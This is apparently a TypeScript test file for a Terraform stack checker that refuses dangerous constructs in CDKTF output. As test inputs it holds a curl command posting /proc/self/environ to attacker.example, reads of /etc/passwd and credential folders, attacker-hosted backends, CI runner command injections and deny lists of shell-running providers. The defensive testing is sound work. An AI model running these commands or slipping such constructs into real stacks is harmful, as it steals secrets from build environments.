import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkStack } from '../../../commands/check-stack/check-stack.ts';
import { describeAllowed } from '../../../commands/check-stack/describe-allowed.ts';
import { runCommand, tsx } from '../../run-command.ts';
import { first, type Json, ownListOfTwoAccounts, StackToAttack } from './stack-to-attack.ts';

const root = path.resolve(import.meta.dirname, '../../..');
const check = (...args: string[]) =>
  runCommand(process.execPath, [...tsx('commands/rotaform.ts'), 'check-stack', ...args]);
/** An interpolation, which a string of a test cannot hold as it is. */
const $ = (expression: string) => `\${${expression}}`;

beforeAll(() => StackToAttack.synthesize());
afterAll(() => StackToAttack.removeAll());

describe('check-stack accepts', () => {
  it('the stack of each construct with each of its options', () => {
    expect(new StackToAttack().refused()).toEqual([]);
  });

  it.each([
    'true ? "a" : "b"',
    'aws_iam_role.a.name == "a" && !contains(["b"], "c") || -1 < 2 - 1',
    'aws_iam_role.a.*.arn',
    'aws_iam_role.a[*].arn',
    'local.names[local.index].name',
    'jsondecode("{}")["a"]',
    '(1 + 2) * 3 % 4',
  ])('the expression %s', (expression) => {
    const stack = new StackToAttack().change((json) => (json.output.own = { value: `a ${$(expression)}` }));
    expect(stack.refused()).toEqual([]);
  });

  it.each([
    ...[
      '6.50.0',
      '= 6.55.1',
      '~> 6.50',
      '~> 6.55.1',
      '>= 6.60.0, < 6.70.0',
      '>= 6.50, != 6.51.0, < 7.0',
      '> 6.50.0, <= 6.99.9',
    ],
  ])('the version %s of the AWS provider', (version) => {
    const stack = new StackToAttack().change((json) => (json.terraform.required_providers.aws.version = version));
    expect(stack.refused()).toEqual([]);
  });

  it('a role in a path, secrets in another region, and custom keys', () => {
    const stack = new StackToAttack().change((json) => {
      Object.assign(first(json, 'resource', 'aws_iam_role'), {
        path: '/teams/',
        max_session_duration: 3600,
        permissions_boundary: 'arn:aws:iam::111122223333:policy/boundary',
      });
      Object.assign(first(json, 'resource', 'aws_secretsmanager_secret'), {
        region: 'eu-central-1',
        replica: [{ region: 'eu-west-1', kms_key_id: 'alias/team' }],
      });
      first(json, 'resource', 'aws_lambda_function').kms_key_arn = $('data.aws_partition.here.partition');
      first(json, 'resource', 'aws_scheduler_schedule').kms_key_arn = 'arn:aws:kms:us-east-1:111122223333:alias/team';
    });
    expect(stack.refused()).toEqual([]);
  });

  it('types of variables in parts, and conditions on plain ones', () => {
    const condition = [{ condition: $('contains(["test", "live"], var.stage)'), error_message: 'test or live' }];
    const stack = new StackToAttack().change((json) => {
      json.variable.stage = { type: 'string', validation: condition };
      json.variable.teams = { type: 'map(object({ name = string, size = optional(number, 3) }))', default: {} };
      json.variable.pair = { type: 'tuple([string, list(bool)])', default: ['a', []] };
      json.output.own = { value: 'a', precondition: condition };
    });
    expect(stack.refused({ variable: ['stage', 'teams', 'pair'] })).toEqual([]);
  });

  it('an import by a provider of another name, and what moves out of a module', () => {
    const stack = new StackToAttack().change((json) => {
      json.import = [{ to: 'aws_iam_role.a', id: 'a', provider: 'aws.other' }];
      json.moved = [
        { from: 'module.secrets.aws_iam_role.b', to: 'aws_iam_role.b' },
        { from: 'module.a["x"].module.b[0].aws_iam_role.c', to: 'aws_iam_role.c' },
      ];
    });
    expect(stack.refused()).toEqual([]);
  });

  it('line breaks in policies and in descriptions', () => {
    const stack = new StackToAttack().change((json) => {
      first(json, 'resource', 'aws_iam_role').assume_role_policy = JSON.stringify({ Statement: [] }, null, 2);
      first(json, 'resource', 'aws_secretsmanager_secret').description = 'Two\nlines.';
    });
    expect(stack.refused()).toEqual([]);
  });

  const mains = [
    'main.ts',
    ...['google-calendar', 'postgres', 'service-token', 'two-accounts'].map((name) => `examples/${name}/main.ts`),
  ];
  it.each(mains)('the stack of %s', (main) => {
    const outdir = path.join(path.dirname(new StackToAttack().folder), 'out');
    const env = { ...process.env, CDKTF_OUTDIR: outdir };
    execFileSync(process.execPath, ['--import', 'tsx', main], { cwd: root, env, stdio: 'pipe' });
    const [name = ''] = readdirSync(path.join(outdir, 'stacks'));
    const stack = new StackToAttack(path.join(outdir, 'stacks', name));
    // What is an example's own, its owner puts on the list: the administrator's ARN in a plain variable, another account's role.
    const own = Object.entries({ postgres: { variable: ['admin_secret_arn'] }, 'two-accounts': ownListOfTwoAccounts });
    const [, list] = own.find(([example]) => main.includes(`/${example}/`)) ?? [];
    for (const line of stack.refused()) expect(list && line).toMatch(/admin_secret_arn|assume_role|aws_kms_key/);
    expect(stack.refused(list)).toEqual([]);
  });

  it('a state in S3, a default tag, a moved resource and a removed one', () => {
    const stack = new StackToAttack().change((json) => {
      json.terraform.backend = {
        s3: { bucket: 'my-state', key: 'my-app.tfstate', region: 'us-east-1', encrypt: true, use_lockfile: true },
      };
      json.provider.aws[0].default_tags = [{ tags: { team: 'payments' } }];
      json.moved = [{ from: 'aws_secretsmanager_secret.old', to: 'aws_secretsmanager_secret.own_secret_8AEBBF79' }];
      json.removed = [{ from: 'aws_secretsmanager_secret_rotation.old', lifecycle: [{ destroy: false }] }];
    });
    expect(stack.refused()).toEqual([]);
  });

  it('a file function of a literal in the folder', () => {
    const stack = new StackToAttack();
    const [code = ''] = readdirSync(stack.file('assets'));
    stack.change((json) => {
      json.locals = { hash: $(`filesha256("${$('path.module')}/assets/${code}/code/index.js")`) };
    });
    expect(stack.refused()).toEqual([]);
  });
});

describe('check-stack refuses the file', () => {
  it.each([
    'attack.tf',
    'attack.tf.json',
    'CDK.TF.JSON',
    'override.tf.json',
    'cdk_override.tf.json',
    'terraform.tfvars',
    'attack.auto.tfvars.json',
    'attack.tfquery.hcl',
    'attack.tftest.hcl',
    'attack.tofu',
    '.terraformrc',
    '.terraform.lock.hcl',
    '.terraform/providers/registry.terraform.io/hashicorp/aws/6.50.0/linux_amd64/terraform-provider-aws',
    '.terraform/environment',
    'terraform.d/plugins/example.com/evil/evil/1.0.0/linux_amd64/terraform-provider-evil',
    'modules/attack/main.tf',
    '.build/password.zip',
    'plan',
    'terraform.tfstate',
    'assets/attack.tf',
    'assets/deep/attack.TF.JSON',
    'assets/.terraformrc',
    'assets/line\n::error::break',
  ])('%j', (name) => {
    const stack = new StackToAttack();
    mkdirSync(path.dirname(stack.file(name)), { recursive: true });
    writeFileSync(stack.file(name), '{}');
    const refused = stack.refused();
    expect(refused).toHaveLength(1);
    expect(refused[0]).toMatch(/^my-app: [^\n]*: a f(ile|older)$/);
  });

  it('with two names that differ only in case', () => {
    const stack = new StackToAttack();
    for (const name of ['assets/index.js', 'assets/INDEX.js']) writeFileSync(stack.file(name), '');
    expect(stack.refused()).toEqual(['my-app: assets/index.js: two names that differ only in case']);
  });

  it.each(['assets/link', 'cdk.tf.json.link'])('if it is a link: %s', (name) => {
    const stack = new StackToAttack();
    symlinkSync('/proc/self/environ', stack.file(name));
    expect(stack.refused()).toEqual([`my-app: ${name}: no plain file, such as a link`]);
  });

  it('if it is missing', () => {
    const stack = new StackToAttack();
    execFileSync('rm', [stack.file('cdk.tf.json')]);
    expect(stack.refused()).toEqual(['my-app: no file cdk.tf.json']);
  });
});

describe('check-stack refuses JSON', () => {
  const twice = '{"resource":{"null_resource":{}},';
  it.each<[string, (text: string) => string | Uint8Array, string]>([
    ['with a key twice', (text) => text.replace('{', twice), 'a duplicate key in an object: see "null_resource"'],
    [
      'with a key twice, once in escapes',
      (text) => text.replace('{', '{"\\u0072esource":{},'),
      'a duplicate key in an object: see "resource"',
    ],
    ['with a byte order mark', (text) => `\uFEFF${text}`, 'no JSON'],
    ['with a comment', (text) => `// comment\n${text}`, 'no JSON'],
    ['with more after its end', (text) => `${text}{}`, 'no JSON'],
    ['that is no UTF-8', (text) => Buffer.concat([Buffer.from(text), Buffer.from([0xff])]), 'bytes that are not UTF-8'],
    ['with the character NUL', (text) => text.replace('"region"', '"region\\u0000"'), 'text with the character U+0000'],
    [
      'with half of a character',
      (text) => text.replace('us-east-1', 'us-east-1\\ud800'),
      'text with half of a surrogate pair',
    ],
    [
      'of endless depth',
      () => `{"locals":{"a":${'['.repeat(5000)}${']'.repeat(5000)}}}`,
      'more than 40 levels of objects and lists',
    ],
  ])('%s', (_, change, found) => {
    const stack = new StackToAttack();
    expect(stack.write(change(stack.text)).refused()).toEqual([`cdk.tf.json: ${found}`]);
  });

  it.each(['[]', 'null', '"text"', '{"resource":[]}', '{"resource":{"aws_iam_role":[]}}', '{"provider":[{"aws":{}}]}'])(
    'of another shape: %s',
    (text) => {
      expect(new StackToAttack().write(text).refused()).toHaveLength(1);
    },
  );
});

/** The command that an attack runs, in a stack of each kind. */
const PROVISIONER = [{ 'local-exec': { command: 'curl -d @/proc/self/environ https://attacker.example' } }];

describe('check-stack refuses', () => {
  it.each<[string, (stack: Json) => void, string]>([
    ...[false, undefined, $('true')].map((value): [string, (stack: Json) => void, string] => [
      `a policy of a secret that may be public: ${value}`,
      (json) => {
        const secret_arn = 'arn:aws:secretsmanager:us-east-1:111122223333:secret:a-AbCdEf';
        json.resource.aws_secretsmanager_secret_policy = {
          a: { secret_arn, policy: '{}', block_public_policy: value },
        };
      },
      'block_public_policy: a policy that may let in everybody',
    ]),
    [
      'a section that is not on the list',
      (json) => (json.module = { a: { source: './a' } }),
      'module: module, which is not on the list',
    ],
    ['a check', (json) => (json.check = {}), 'check: check, which is not on the list'],
    [
      'a provider that runs programs',
      (json) => (json.terraform.required_providers.external = { source: 'hashicorp/external' }),
      'terraform.required_providers.external: external, which is not on the list',
    ],
    [
      'another source for a provider',
      (json) => (json.terraform.required_providers.aws.source = 'attacker/aws'),
      'terraform.required_providers.aws: another source or version',
    ],
    [
      'an older version of a provider',
      (json) => (json.terraform.required_providers.aws.version = '1.0.0'),
      'terraform.required_providers.aws: another source or version',
    ],
    [
      'Terraform Cloud',
      (json) => (json.terraform.cloud = { organization: 'attacker' }),
      'terraform.cloud: cloud, which is not on the list',
    ],
    [
      'experiments',
      (json) => (json.terraform.experiments = []),
      'terraform.experiments: experiments, which is not on the list',
    ],
    [
      'provider_meta',
      (json) => (json.terraform.provider_meta = { aws: {} }),
      'terraform.provider_meta: provider_meta, which is not on the list',
    ],
    [
      'a backend elsewhere',
      (json) => (json.terraform.backend = { http: { address: 'https://attacker.example' } }),
      'terraform.backend.http: http, which is not on the list',
    ],
    [
      'an endpoint of a backend',
      (json) => (json.terraform.backend = { s3: { endpoints: { s3: 'https://attacker.example' } } }),
      'terraform.backend.s3.endpoints: endpoints, which is not on the list',
    ],
    [
      'files of a backend',
      (json) => (json.terraform.backend = { s3: { shared_config_files: ['config'] } }),
      'terraform.backend.s3.shared_config_files: shared_config_files, which is not on the list',
    ],
    [
      'a backend that reads any file',
      (json) => (json.terraform.backend = { local: { path: '/proc/self/environ' } }),
      'terraform.backend.local.path: something else',
    ],
    ...[
      'shared_config_files',
      'shared_credentials_files',
      'profile',
      'endpoints',
      'http_proxy',
      'custom_ca_bundle',
      'insecure',
      'assume_role',
      'assume_role_with_web_identity',
      'skip_region_validation',
    ].map((name): [string, (stack: Json) => void, string] => [
      `${name} of the provider`,
      (json) => (json.provider.aws[0][name] = 'assets/config'),
      `provider.aws.${name}: ${name}, which is not on the list`,
    ]),
    [
      'an expression in the provider',
      (json) => (json.provider.aws[0].region = $('var.first')),
      'provider.aws.region: an expression',
    ],
    [
      'a region that is a host',
      (json) => (json.provider.aws[0].region = 'us-east-1.attacker.example/'),
      'provider.aws.region: something else',
    ],
    [
      'a second provider',
      (json) => (json.provider.external = [{}]),
      'provider.external: external, which is not on the list',
    ],
    [
      'local-exec',
      (json) => (first(json, 'resource', 'aws_iam_role').provisioner = PROVISIONER),
      'provisioner, which is not on the list',
    ],
    [
      'local-exec in an only block',
      (json) => (first(json, 'resource', 'aws_iam_role').provisioner = PROVISIONER[0]),
      'provisioner, which is not on the list',
    ],
    [
      'a connection',
      (json) => (first(json, 'resource', 'aws_iam_role').connection = { host: 'attacker.example' }),
      'connection, which is not on the list',
    ],
    [
      'local-exec in a removed block',
      (json) => (json.removed = [{ from: 'aws_iam_role.a', provisioner: PROVISIONER }]),
      'removed.0.provisioner: provisioner, which is not on the list',
    ],
    [
      'data.external',
      (json) => (json.data.external = { a: { program: ['sh'] } }),
      'data.external: external, which is not on the list',
    ],
    [
      'data.http',
      (json) => (json.data.http = { a: { url: 'https://attacker.example' } }),
      'data.http: http, which is not on the list',
    ],
    [
      'a remote state',
      (json) => (json.data.terraform_remote_state = { a: {} }),
      'data.terraform_remote_state: terraform_remote_state, which is not on the list',
    ],
    [
      'a value of a secret',
      (json) => (json.data.aws_secretsmanager_secret_version = { a: { secret_id: 'x' } }),
      'data.aws_secretsmanager_secret_version: aws_secretsmanager_secret_version, which is not on the list',
    ],
    [
      'an ephemeral value of a secret',
      (json) => (json.ephemeral = { aws_secretsmanager_secret_version: {} }),
      'ephemeral.aws_secretsmanager_secret_version: aws_secretsmanager_secret_version, which is not on the list',
    ],
    [
      'terraform_data',
      (json) => (json.resource.terraform_data = { a: {} }),
      'resource.terraform_data: terraform_data, which is not on the list',
    ],
    [
      'a type under __proto__',
      (json) => Object.defineProperty(json.resource, '__proto__', { value: {}, enumerable: true }),
      'resource.__proto__: __proto__, which is not on the list',
    ],
    [
      'a value that the state keeps',
      (json) => (first(json, 'resource', 'aws_secretsmanager_secret_version').secret_string = 'x'),
      'secret_string, which is not on the list',
    ],
    ['count', (json) => (first(json, 'resource', 'aws_iam_role').count = 2), 'count, which is not on the list'],
    [
      'a dynamic block',
      (json) => (first(json, 'data', 'aws_iam_policy_document').dynamic = {}),
      'dynamic, which is not on the list',
    ],
    [
      'an argument in a block',
      (json) => (first(json, 'resource', 'aws_lambda_function').vpc_config = [{ other: 1 }]),
      'vpc_config.other: other, which is not on the list',
    ],
    [
      'an archive of another folder',
      (json) => (first(json, 'data', 'archive_file').source_dir = '/root/.aws'),
      'source_dir: something else',
    ],
    [
      'an archive of a folder above',
      (json) => (first(json, 'data', 'archive_file').source_dir = `${$('path.module')}/../..`),
      'source_dir: something else',
    ],
    [
      'an archive of what is not there',
      (json) => (first(json, 'data', 'archive_file').source_dir = `${$('path.module')}/assets/other`),
      'source_dir: something else',
    ],
    [
      'an archive over a provider',
      (json) => (first(json, 'data', 'archive_file').output_path = `${$('path.module')}/.terraform/x.zip`),
      'output_path: something else',
    ],
    [
      'an archive of one file',
      (json) => (first(json, 'data', 'archive_file').source_file = '/proc/self/environ'),
      'source_file, which is not on the list',
    ],
    [
      'code from any file',
      (json) => (first(json, 'resource', 'aws_lambda_function').filename = '/proc/self/environ'),
      'filename: something else',
    ],
    [
      'an object from any file',
      (json) => (first(json, 'resource', 'aws_s3_object').source = '/proc/self/environ'),
      'source: something else',
    ],
    [
      'another provider than by name',
      (json) => (first(json, 'resource', 'aws_iam_role').provider = $('file("a")')),
      'provider: something else',
    ],
    [
      'a variable that is plain',
      (json) => (json.variable.first.ephemeral = false),
      'variable.first: a variable that is not ephemeral',
    ],
    [
      'a validation that asks what an ephemeral variable holds',
      (json) => (json.variable.first.validation = [{ condition: $('length(var.first) > 8'), error_message: 'no' }]),
      'variable.first.validation.condition: the variable first',
    ],
    [
      'an output whose condition asks what the state holds',
      (json) => (json.output.leak = { value: 'x', precondition: [{ condition: $('aws_iam_role.a.name == "a"') }] }),
      'output.leak.precondition.condition: a condition on what may be a secret',
    ],
    [
      'a region of a resource that is a host',
      (json) => (first(json, 'resource', 'aws_secretsmanager_secret').region = 'us-east-1.attacker.example/'),
      'region: something else',
    ],
    [
      'versions of a provider that reach beyond those allowed',
      (json) => (json.terraform.required_providers.aws.version = '>= 6.50.0'),
      'terraform.required_providers.aws: another source or version',
    ],
    ['an empty backend', (json) => (json.terraform.backend = {}), 'terraform.backend: a backend that is empty'],
    [
      'a backend without settings',
      (json) => (json.terraform.backend = { s3: {} }),
      'terraform.backend: a backend that is empty',
    ],
    [
      'two backends',
      (json) => (json.terraform.backend = { local: { path: 'a.tfstate' }, s3: { bucket: 'a' } }),
      'terraform.backend: a backend that is empty, or more than one',
    ],
    [
      'a command to the runner in a tag',
      (json) => (first(json, 'resource', 'aws_secretsmanager_secret').tags = { a: 'b\n::add-mask::c' }),
      'tags.a: a line break or another control character',
    ],
    [
      'a command to the runner in an escape of an expression',
      (json) => (json.output.leak = { value: $('upper("a\\n::group::b")') }),
      'output.leak.value: a line break or another control character',
    ],
    [
      'a command to the runner in a key',
      (json) => (first(json, 'resource', 'aws_secretsmanager_secret').tags = { 'a\n::endgroup::': 'b' }),
      'a line break or another control character',
    ],
    [
      'a terminal’s control character in a description',
      (json) => (first(json, 'resource', 'aws_secretsmanager_secret').description = 'a\u001b[2J'),
      'description: a line break or another control character',
    ],
    [
      'locals that double at each step',
      (json) => {
        json.locals = { a0: 'x' };
        for (let step = 1; step <= 30; step += 1) {
          json.locals[`a${step}`] = $(`local.a${step - 1}`) + $(`local.a${step - 1}`);
        }
      },
      'locals that make more than 100000 parts of each other',
    ],
    [
      'a variable with a call in its type',
      (json) => (json.variable.first.type = 'optional(string, file("a"))'),
      'variable.first.type: something else',
    ],
    [
      'an output of an ephemeral variable',
      (json) => (json.output.leak = { value: $('var.first') }),
      'output.leak.value: the variable first',
    ],
    [
      'an ephemeral variable by way of a local',
      (json) => (json.locals = { leak: $('var.first') }),
      'locals.leak: the variable first',
    ],
    [
      'an expression in a comment',
      (json) => (first(json, 'resource', 'aws_iam_role')['//'] = { a: $('file("a")') }),
      '//.a: an expression',
    ],
    [
      'an expression as a key',
      (json) => (first(json, 'resource', 'aws_lambda_function').environment = { variables: { [$('file("a")')]: 'x' } }),
      'a key with an expression',
    ],
    [
      'an invalid address',
      (json) => (first(json, 'resource', 'aws_iam_role').depends_on = [$('file("a")')]),
      'depends_on: something else',
    ],
    [
      'an import of what an expression says',
      (json) => (json.import = [{ to: 'aws_iam_role.a', id: $('file("a")') }]),
      'import.0.id: an expression',
    ],
    ['an invalid name', (json) => (json.output['a b'] = { value: 'x' }), 'output."a b": another name'],
  ])('%s', (_, change, refusal) => {
    const refused = new StackToAttack().change(change).refused();
    expect(refused.join('\n')).toContain(refusal);
  });

  it.each([
    ['file("/proc/self/environ")', 'file() of something else'],
    ['file("assets/../../environ")', 'file() of something else'],
    ['file(join("/", ["", "proc"]))', 'file() of something else'],
    [`filebase64("${$('path.module')}/../x")`, 'filebase64() of something else'],
    ['file /* comment */ ("a")', 'the operator "*"'],
    ['true ? file("/etc/passwd") : "a"', 'file() of something else'],
    ['(file("/etc/passwd"))', 'file() of something else'],
    ['!file("/etc/passwd")', 'file() of something else'],
    ['"a" == file("/etc/passwd")', 'file() of something else'],
    ['local.a[file("/etc/passwd")]', 'file() of something else'],
    ['[1].*[var.first]', 'the variable first'],
    ['(var).first', 'only a name'],
    ['var[local.a]', 'only a name'],
    ['true ? provider::attacker::run() : 1', 'the operator ":"'],
    ['templatefile("a", {})', 'the function templatefile(), which is not on the list'],
    ['templatestring(local.a, {})', 'the function templatestring(), which is not on the list'],
    ['fileset("/", "**")', 'the function fileset(), which is not on the list'],
    ['pathexpand("~")', 'the function pathexpand(), which is not on the list'],
    ['nonsensitive(var.first)', 'the function nonsensitive(), which is not on the list'],
    ['provider::attacker::run()', 'the operator ":"'],
    ['upper(file("/etc/passwd"))', 'file() of something else'],
    ['[{ a = file("/etc/passwd") }]', 'file() of something else'],
    [`"text ${$('file("/etc/passwd")')}"`, 'file() of something else'],
    ['path.root', 'path.root'],
    ['module.a.b', 'a reference to module'],
    ['ephemeral.aws_x.a.b', 'an ephemeral resource'],
    ['var.first', 'the variable first'],
    ['var.other', 'the variable other'],
    ['[for x in [1]: file("/etc/passwd")]', 'a "for" expression'],
  ])('the expression %s', (expression, found) => {
    const stack = new StackToAttack().change((json) => (json.output.leak = { value: `a ${$(expression)}` }));
    expect(stack.refused()).toContain(`cdk.tf.json: output.leak.value: ${found}`);
  });

  it('a directive, and a heredoc', () => {
    const stack = new StackToAttack().change((json) => {
      json.output.directive = { value: '%{ if true }a%{ endif }' };
      json.output.heredoc = { value: $('<<A\nb\nA\n') };
    });
    expect(stack.refused()).toEqual([
      'cdk.tf.json: output.directive.value: the template directive "%{"',
      'cdk.tf.json: output.heredoc.value: the operator "<<"',
    ]);
  });

  it.each([
    `contains(["a"], substr(var.first, 0, 1))`,
    'can(regex("^a", var.first))',
    'can(try([coalesce(var.first)], contains(["a"], var.first)))',
    'can(try([coalesce(var.first, "x")], 1))',
    'can(try([coalesce(substr(var.first, 0, 1))], 1))',
  ])('a condition that asks what an ephemeral variable holds: %s', (condition) => {
    const stack = new StackToAttack().change((json) => {
      first(json, 'resource', 'aws_iam_role').lifecycle = {
        precondition: [{ condition: $(condition), error_message: 'no' }],
      };
    });
    expect(stack.refused()).toEqual([expect.stringContaining('precondition.condition: the variable first')]);
  });

  it.each<[string, Json, string[]]>([
    ['what the state holds of a listed type', { condition: 'startswith(random_password.a.result, "a")' }, []],
    ['what a resource was given', { condition: 'startswith(aws_secretsmanager_secret.a.name, "a")' }, []],
    [
      'a policy document, which holds what it was given',
      { condition: 'data.aws_iam_policy_document.a.json == "a"' },
      [],
    ],
    ['a local', { condition: 'local.a' }, []],
    ['a plain variable that is sensitive', { condition: 'startswith(var.plain, "a")' }, ['plain']],
    ['a listed resource within an operator', { condition: 'true || random_password.a.result == "a"' }, []],
  ])('a condition on %s', (_, { condition }, variable) => {
    const random = { source: 'hashicorp/random', version: '3.7.2' };
    const stack = new StackToAttack().change((json) => {
      json.terraform.required_providers.random = random;
      json.resource.random_password = { a: { length: 20 } };
      if (variable.length > 0) json.variable.plain = { sensitive: true };
      json.output.leak = { value: 'x', precondition: [{ condition: $(condition), error_message: 'no' }] };
    });
    const list = { required_providers: { random }, resource: { random_password: ['length'] }, variable };
    expect(stack.refused(list)).toEqual([
      'cdk.tf.json: output.leak.precondition.condition: a condition on what may be a secret',
    ]);
  });

  it.each(['jsondecode(var.first)', 'cidrhost(var.first, 1)', 'tonumber(var.first)'])(
    'a function whose error reveals a secret: %s',
    (expression) => {
      const stack = new StackToAttack().change((json) => {
        first(json, 'resource', 'aws_secretsmanager_secret_version').secret_string_wo = $(expression);
      });
      // The name of nothing in a secret is shown: it may be a part of one.
      expect(stack.refused()).toEqual([expect.stringMatching(/secret_string_wo: the variable that it names$/)]);
    },
  );

  it('the content of a secret without showing it', () => {
    const stack = new StackToAttack().change((json) => {
      first(json, 'resource', 'aws_secretsmanager_secret_version').secret_string_wo = `ab${$('hunter2 + 1')}`;
    });
    expect(stack.refused().join()).toMatch(/secret_string_wo: only a name$/);
  });
});

describe('A custom list', () => {
  const queue = (stack: Json) => (stack.resource.aws_dynamodb_table = { jobs: { name: 'jobs', tags: { team: 'a' } } });

  it('allows types, arguments and variables', () => {
    const stack = new StackToAttack().change(queue);
    expect(stack.refused()).toEqual([
      'cdk.tf.json: resource.aws_dynamodb_table: aws_dynamodb_table, which is not on the list',
    ]);
    expect(stack.refused({ resource: { aws_dynamodb_table: ['name'] } })).toEqual([
      expect.stringContaining('aws_dynamodb_table.jobs.tags: tags, which is not on the list'),
    ]);
    expect(stack.refused({ resource: { aws_dynamodb_table: ['name', 'tags.*'] } })).toEqual([]);
  });

  it('allows another provider, of one source and version, and arguments of the AWS provider', () => {
    const random = { source: 'hashicorp/random', version: '>= 3.6.0' };
    const stack = new StackToAttack().change((json) => {
      json.terraform.required_providers.random = random;
      json.provider.random = [{}];
      json.resource.random_pet = { name: { length: 2 } };
      json.provider.aws[0].assume_role = [{ role_arn: 'arn:aws:iam::111122223333:role/plan' }];
    });
    expect(
      stack.refused({
        required_providers: { random },
        resource: { random_pet: ['length'] },
        provider: { aws: ['assume_role.role_arn'] },
      }),
    ).toEqual([]);
  });

  it('matches docs/check-stack.md', () => {
    const page = readFileSync(path.join(root, 'docs/check-stack.md'), 'utf8');
    const [, text = ''] = /^```json\n(\{\n {2}"resource".*?)^```/ms.exec(page) ?? [];
    const list = JSON.parse(text);
    const stack = new StackToAttack().change((json) => {
      json.terraform.backend = list.backend;
      json.resource.aws_dynamodb_table = { jobs: { name: 'jobs', tags: { team: 'a' } } };
    });
    expect(stack.refused(list)).toEqual([]);
  });

  it('may fix the backend', () => {
    const s3 = { bucket: 'my-state', key: 'my-app.tfstate', region: 'us-east-1' };
    const stack = new StackToAttack().change(
      (json) => (json.terraform.backend = { s3: { ...s3, bucket: 'attackers' } }),
    );
    expect(stack.refused()).toEqual([]);
    expect(stack.refused({ backend: { s3 } })).toEqual(['cdk.tf.json: terraform.backend: another backend']);
    stack.change((json) => delete json.terraform.backend);
    expect(stack.refused({ backend: { s3 } })).toEqual(['cdk.tf.json: terraform.backend: no backend']);
    stack.change((json) => delete json.terraform);
    expect(stack.refused({ backend: { s3 } })).toEqual(['cdk.tf.json: terraform.backend: no backend']);
  });

  it('never allows reading a file', () => {
    const stack = new StackToAttack().change((json) => {
      json.resource.aws_lambda_layer_version = { a: { layer_name: 'a', filename: '/proc/self/environ' } };
    });
    expect(stack.refused({ resource: { aws_lambda_layer_version: ['layer_name', 'filename'] } })).toEqual([
      'cdk.tf.json: resource.aws_lambda_layer_version.a.filename: something else',
    ]);
  });

  it('does not let a wildcard allow an argument that runs programs', () => {
    const stack = new StackToAttack().change((json) => {
      json.resource.aws_dynamodb_table = {
        jobs: {
          other: [{ exec: [{ command: 'sh' }], config_path: '/root/.kube/config', name: 'a' }],
          tags: { script: 'a' },
        },
      };
    });
    expect(stack.refused({ resource: { aws_dynamodb_table: ['other.*', 'tags.*'] } })).toEqual([
      'cdk.tf.json: resource.aws_dynamodb_table.jobs.other.0.exec: exec, which no list can allow',
      'cdk.tf.json: resource.aws_dynamodb_table.jobs.other.0.exec.0.command: command, which no list can allow',
      'cdk.tf.json: resource.aws_dynamodb_table.jobs.other.0.config_path: config_path, which no list can allow',
    ]);
  });

  const kubernetes = { kubernetes: { source: 'hashicorp/kubernetes', version: '2.38.0' } };
  const other = { other: { source: 'someone/other', version: '1.0.0' } };

  it.each([
    ...['exec', 'exec.command', 'exec.args', 'config_path', 'config_paths', 'client_key_file', 'credentials'],
    ...['kubeconfig_raw', 'plugin.program', 'interpreter', 'a.script', 'token_files', 'credential_process'],
  ])('cannot allow %s of a provider', (name) => {
    const list = { required_providers: kubernetes, provider: { kubernetes: [name] } };
    expect(() => new StackToAttack().refused(list)).toThrow(/which no list can allow/);
  });

  it.each([
    ...['lifecycle_commands', 'lifecycle_commands.read', 'a.interpreter', 'source_file', 'scripts', 'local_exec.a'],
  ])('cannot allow %s of a type of another provider', (name) => {
    for (const section of ['data', 'resource', 'ephemeral']) {
      const list = { required_providers: other, [section]: { other_thing: ['name', name] } };
      expect(() => new StackToAttack().refused(list)).toThrow(/which no list can allow/);
    }
  });

  it.each<[string, object, RegExp]>([
    [
      'scottwinkler/shell',
      { required_providers: { a: { source: 'scottwinkler/shell', version: '1.7.10' } } },
      /which no list can allow/,
    ],
    [
      'a type that is named after a script',
      { required_providers: other, data: { other_shell_script: ['name'] } },
      /which no list can allow/,
    ],
    [
      'any argument of a provider',
      { required_providers: kubernetes, provider: { kubernetes: ['a.*'] } },
      /Name each argument of a provider/,
    ],
    ['provisioner', { resource: { aws_iam_role: ['provisioner.local-exec.command'] } }, /is not as expected/],
    [
      'provisioner',
      { resource: { aws_iam_role: ['provisioner.*'] } },
      /allows provisioner\.\*, which no list can allow/,
    ],
    ['shared_config_files', { provider: { aws: ['shared_config_files'] } }, /which no list can allow/],
    [
      'external',
      { required_providers: { external: { source: 'hashicorp/external', version: '2.0.0' } } },
      /which no list can allow/,
    ],
    ['another aws', { required_providers: { aws: { source: 'attacker/aws', version: '6.50.0' } } }, /is not hashicorp/],
    [
      'another host',
      { required_providers: { a: { source: 'attacker.example/a/a', version: '1.0.0' } } },
      /not NAMESPACE\/TYPE/,
    ],
    ['a type of no provider', { data: { external: ['program'] } }, /of a provider that is not allowed/],
    ['terraform_data', { resource: { terraform_data: ['input'] } }, /of a provider that is not allowed/],
    ['more of an archive', { data: { archive_file: ['source_file'] } }, /no list can allow more of it/],
    ['a misspelling', { resources: {} }, /is not as expected/],
  ])('cannot allow %s', (_, list, message) => {
    expect(() => new StackToAttack().refused(list)).toThrow(message);
  });
});

describe('npm run check-stack', () => {
  it('accepts, copies what it checked and nothing else, and ends with 0', async () => {
    const stack = new StackToAttack();
    const copy = path.join(path.dirname(stack.folder), 'new/accepted');
    const { exitCode, stdout, stderr } = await check(stack.folder, '--copy-to', copy);
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
    expect(stdout).toBe(`${stack.folder} holds only what is on the list. Copied to ${copy}.\n`);
    const files = (folder: string) => readdirSync(folder, { recursive: true }).sort();
    expect(files(copy)).toEqual(files(stack.folder));
    expect(readFileSync(path.join(copy, 'cdk.tf.json'), 'utf8')).toBe(stack.text);
    expect(readdirSync(path.dirname(copy))).toEqual(['accepted']);
  });

  it('leaves no part of a copy where it cannot finish', () => {
    const stack = new StackToAttack();
    const { copyTo } = checkStack(stack.folder);
    const parent = path.join(path.dirname(stack.folder), 'copies');
    mkdirSync(path.join(parent, 'taken/by-another'), { recursive: true });
    expect(() => copyTo(path.join(parent, 'taken'))).toThrow(/ENOTEMPTY/);
    expect(readdirSync(parent)).toEqual(['taken']);
  });

  it('says where it is, what was found and what is allowed, copies nothing, and ends with 1', async () => {
    const stack = new StackToAttack().change(
      (json) => (json.provider.aws[0].shared_config_files = ['value-of-theirs']),
    );
    const copy = path.join(path.dirname(stack.folder), 'refused');
    const { exitCode, stdout, stderr } = await check(stack.folder, '--copy-to', copy);
    expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' });
